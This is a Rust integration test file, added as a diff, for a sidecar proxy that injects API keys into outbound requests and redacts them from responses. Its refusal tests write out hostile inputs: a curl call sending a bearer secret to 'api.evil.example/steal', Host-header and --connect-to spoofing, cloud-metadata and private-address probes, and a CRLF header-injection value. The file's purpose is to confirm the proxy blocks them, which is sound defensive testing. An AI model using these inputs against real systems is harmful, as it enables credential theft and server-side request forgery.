@@ -1,0 +1,265 @@
+//! The sidecar proxy with real clients (curl, Python requests, the openai SDK, reqwest)
+//! and real TLS: injection upstream, redaction back, and every refusal sending nothing.
+
+use std::process::Command;
+use std::time::Instant;
+
+use crate::sidecar::Sidecar;
+use crate::support::secret_value;
+
+const PLACEHOLDER: &str = "{{secret:production/openai/api-key}}";
+
+fn bearer() -> String {
+    format!("Authorization: Bearer {PLACEHOLDER}")
+}
+
+fn header<'a>(r: &'a crate::upstream::Recorded, name: &str) -> Option<&'a str> {
+    r.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
+}
+
+#[test]
+fn curl_through_https_proxy_gets_the_value_injected_and_redacted() {
+    let sc = Sidecar::start();
+    let value = secret_value("openai");
+    let (status, out) = sc.curl(&["-H", &bearer(), "https://api.openai.com/v1/echo"]);
+    assert_eq!(status, 200, "{out}");
+    let got = sc.requests_to("api.openai.com");
+    assert_eq!(got.len(), 1);
+    assert_eq!(
+        header(&got[0], "authorization"),
+        Some(format!("Bearer {value}").as_str()),
+        "the upstream got the real value"
+    );
+    assert!(!out.contains(&value), "curl saw the value: {out}");
+    assert!(out.contains(&format!("x-echo-authorization: Bearer {PLACEHOLDER}")), "echoed header redacted: {out}");
+    assert!(out.contains(PLACEHOLDER), "{out}");
+}
+
+fn python(script: &str, envs: &[(&str, String)]) -> (bool, String) {
+    let out = Command::new("python3")
+        .arg("-c")
+        .arg(script)
+        .envs(envs.iter().map(|(k, v)| (*k, v.as_str())))
+        .output()
+        .unwrap();
+    (out.status.success(), format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
+}
+
+#[test]
+fn python_requests_through_https_proxy() {
+    let sc = Sidecar::start();
+    let script = format!(
+        r#"
+import requests
+r = requests.get("https://api.openai.com/v1/echo", headers={{"Authorization": "Bearer {PLACEHOLDER}"}})
+print(r.status_code)
+print(r.headers.get("x-echo-authorization"))
+print(r.text)
+"#
+    );
+    let proxy = format!("http://{}", sc.proxy_addr);
+    let (ok, out) = python(
+        &script,
+        &[
+            ("HTTPS_PROXY", proxy),
+            ("REQUESTS_CA_BUNDLE", sc.ca_path().display().to_string()),
+            ("NO_PROXY", String::new()),
+        ],
+    );
+    assert!(ok, "{out}");
+    assert!(out.starts_with("200\n"), "{out}");
+    assert!(!out.contains(&secret_value("openai")), "{out}");
+    assert!(out.contains(PLACEHOLDER), "{out}");
+    let got = sc.requests_to("api.openai.com");
+    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
+}
+
+#[test]
+fn openai_sdk_in_route_mode() {
+    let sc = Sidecar::start();
+    let script = format!(
+        r#"
+import openai
+client = openai.OpenAI(base_url="http://{}/r/openai", api_key="{PLACEHOLDER}", max_retries=0)
+echo = client.get("/echo", cast_to=object)
+print(echo["headers"].get("authorization"))
+"#,
+        sc.proxy_addr
+    );
+    let (ok, out) = python(&script, &[]);
+    assert!(ok, "{out}");
+    assert_eq!(out.trim(), format!("Bearer {PLACEHOLDER}"), "the SDK sees the placeholder echoed back");
+    let got = sc.requests_to("api.openai.com");
+    assert_eq!(got[0].path, "/v1/echo");
+    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
+}
+
+fn reqwest_via_proxy(sc: &Sidecar) -> reqwest::Client {
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let ca = reqwest::Certificate::from_pem(&std::fs::read(sc.ca_path()).unwrap()).unwrap();
+    reqwest::Client::builder()
+        .proxy(reqwest::Proxy::all(format!("http://{}", sc.proxy_addr)).unwrap())
+        .tls_built_in_root_certs(false)
+        .add_root_certificate(ca)
+        .build()
+        .unwrap()
+}
+
+#[test]
+fn a_streamed_response_arrives_chunk_by_chunk() {
+    let sc = Sidecar::start();
+    let client = reqwest_via_proxy(&sc);
+    crate::support::block_on(async {
+        let mut resp = client
+            .get("https://api.openai.com/sse")
+            .header("authorization", format!("Bearer {PLACEHOLDER}"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(resp.status(), 200);
+        let first = resp.chunk().await.unwrap().expect("a first chunk");
+        let first_at = Instant::now();
+        assert!(String::from_utf8_lossy(&first).contains("data: 0"), "{first:?}");
+        let mut rest = Vec::new();
+        while let Some(c) = resp.chunk().await.unwrap() {
+            rest.extend_from_slice(&c);
+        }
+        let last_sent = sc.upstream.last_sse_sent().expect("the upstream sent the last event");
+        assert!(first_at < last_sent, "the first chunk arrived only after the upstream sent the last one");
+        assert!(String::from_utf8_lossy(&rest).contains("data: 4"));
+    });
+}
+
+#[test]
+fn http2_on_both_sides() {
+    let sc = Sidecar::start();
+    let (status, out) = sc.curl(&["--http2", "-H", &bearer(), "https://api.openai.com/v1/echo"]);
+    assert_eq!(status, 200, "{out}");
+    assert!(out.contains("\nHTTP/2 200"), "agent side spoke h2: {out}");
+    let got = sc.requests_to("api.openai.com");
+    assert_eq!(got[0].version, "HTTP/2.0", "proxy to upstream spoke h2");
+    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
+}
+
+#[test]
+fn refusals_send_nothing_upstream() {
+    let sc = Sidecar::start();
+    sc.server.create("production/stripe/key", &secret_value("stripe"));
+    let cases: Vec<(Vec<String>, &str)> = vec![
+        (vec!["-H".into(), bearer(), "https://api.evil.example/steal".into()], "host_not_allowed"),
+        (vec!["-A".into(), PLACEHOLDER.into(), "https://api.openai.com/v1/ua".into()], "placement_not_allowed"),
+        (
+            vec!["-H".into(), format!("Cookie: session={PLACEHOLDER}"), "https://api.openai.com/v1/c".into()],
+            "placement_not_allowed",
+        ),
+        (
+            vec!["-H".into(), format!("X-Custom: {PLACEHOLDER}"), "https://api.openai.com/v1/x".into()],
+            "placement_not_allowed",
+        ),
+        (
+            vec![
+                "-H".into(),
+                "Authorization: Bearer {{secret:production/stripe/key}}".into(),
+                "https://api.openai.com/v1/s".into(),
+            ],
+            "secret_not_granted",
+        ),
+        (vec![format!("https://api.openai.com/v1/q?key={PLACEHOLDER}")], "placement_not_allowed"),
+        (vec!["https://api.github.com/".into()], "egress_denied"),
+        (vec!["-H".into(), "Host: api.evil.example".into(), "https://api.openai.com/v1/h".into()], "host_mismatch"),
+        (
+            vec![
+                "--connect-to".into(),
+                "api.openai.com:443:api.evil.example:443".into(),
+                "-H".into(),
+                bearer(),
+                "https://api.openai.com/v1/sni".into(),
+            ],
+            "host_mismatch",
+        ),
+    ];
+    for (args, code) in &cases {
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, out) = sc.curl(&args);
+        assert_eq!(status, 403, "{args:?}: {out}");
+        assert!(out.contains(&format!("\"code\":\"{code}\"")), "{args:?} → expected {code}: {out}");
+        assert!(out.to_ascii_lowercase().contains(&format!("x-airlock-error: {code}")), "{out}");
+        assert!(!out.contains(&secret_value("openai")));
+    }
+    assert!(sc.upstream.requests().is_empty(), "nothing reached the upstream: {:?}", sc.upstream.requests());
+}
+
+#[test]
+fn private_addresses_are_refused() {
+    let sc = Sidecar::start();
+    for host in ["127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.1.1"] {
+        let (status, out) = sc.curl(&["--connect-timeout", "3", &format!("http://{host}/latest/meta-data/")]);
+        assert_eq!(status, 403, "{host}: {out}");
+        assert!(out.contains("private_address"), "{host}: {out}");
+    }
+}
+
+#[test]
+fn a_value_with_crlf_never_reaches_a_header() {
+    let sc = Sidecar::start();
+    let body = serde_json::json!({ "path": "production/openai/crlf", "value": format!("{}\r\nX-Injected: yes", secret_value("crlf")) });
+    assert_eq!(sc.server.admin("POST", "/v1/secrets", Some(&body.to_string())).0, 201);
+    let (status, out) =
+        sc.curl(&["-H", "Authorization: Bearer {{secret:production/openai/crlf}}", "https://api.openai.com/v1/crlf"]);
+    assert_eq!(status, 403, "{out}");
+    assert!(out.contains("unsafe_value"), "{out}");
+    assert!(sc.upstream.requests().is_empty());
+}
+
+#[test]
+fn per_host_rate_limit_gives_429_with_retry_after() {
+    let sc = Sidecar::start();
+    let mut statuses = Vec::new();
+    for _ in 0..4 {
+        statuses.push(sc.curl(&["https://api.evil.example/free"]));
+    }
+    assert_eq!(statuses.iter().map(|s| s.0).collect::<Vec<_>>(), vec![200, 200, 200, 429], "{statuses:?}");
+    let out = &statuses[3].1.to_ascii_lowercase();
+    assert!(out.contains("retry-after:") && out.contains("rate_limited"), "{out}");
+}
+
+#[test]
+fn basic_credentials_query_and_json_fields_are_substituted_where_granted() {
+    let sc = Sidecar::start();
+    let json_secret = serde_json::json!({ "user": "svc", "password": secret_value("pw") }).to_string();
+    let body = serde_json::json!({ "path": "production/multi/creds", "value": json_secret });
+    assert_eq!(sc.server.admin("POST", "/v1/secrets", Some(&body.to_string())).0, 201);
+    let (status, out) = sc.curl(&[
+        "-u",
+        "svc:{{secret:production/multi/creds#password}}",
+        "https://api.openai.com/v1/basic?token={{secret:production/multi/creds%23password}}",
+    ]);
+    assert_eq!(status, 200, "{out}");
+    let got = sc.requests_to("api.openai.com");
+    use base64::Engine as _;
+    let expected = base64::engine::general_purpose::STANDARD.encode(format!("svc:{}", secret_value("pw")));
+    assert_eq!(header(&got[0], "authorization"), Some(format!("Basic {expected}").as_str()));
+    assert!(got[0].path.contains(&format!("token={}", secret_value("pw"))), "{}", got[0].path);
+    assert!(!out.contains(&secret_value("pw")), "{out}");
+}
+
+#[test]
+fn websocket_upgrades_pass_through() {
+    let plain = crate::upstream::Upstream::start_plain();
+    let sc = Sidecar::start_with("", &["--resolve", &format!("ws.local={}", plain.addr())]);
+    let reply = crate::upstream::ws_echo_via(&sc.proxy_addr, "ws.local", plain.port, "/ws", "hello through airlock");
+    assert_eq!(reply, "hello through airlock");
+}
+
+#[test]
+fn ca_and_ops_endpoints_answer_on_the_listener() {
+    let sc = Sidecar::start();
+    let http = reqwest::blocking::Client::new();
+    let ca = http.get(format!("http://{}/_airlock/ca.pem", sc.proxy_addr)).send().unwrap().text().unwrap();
+    assert_eq!(ca, std::fs::read_to_string(sc.ca_path()).unwrap());
+    let key_mode = std::os::unix::fs::PermissionsExt::mode(
+        &std::fs::metadata(sc.ca_path().with_file_name("ca.key")).unwrap().permissions(),
+    );
+    assert_eq!(key_mode & 0o777, 0o600);
+    assert_eq!(http.get(format!("http://{}/_airlock/healthz", sc.proxy_addr)).send().unwrap().status(), 200);
+}
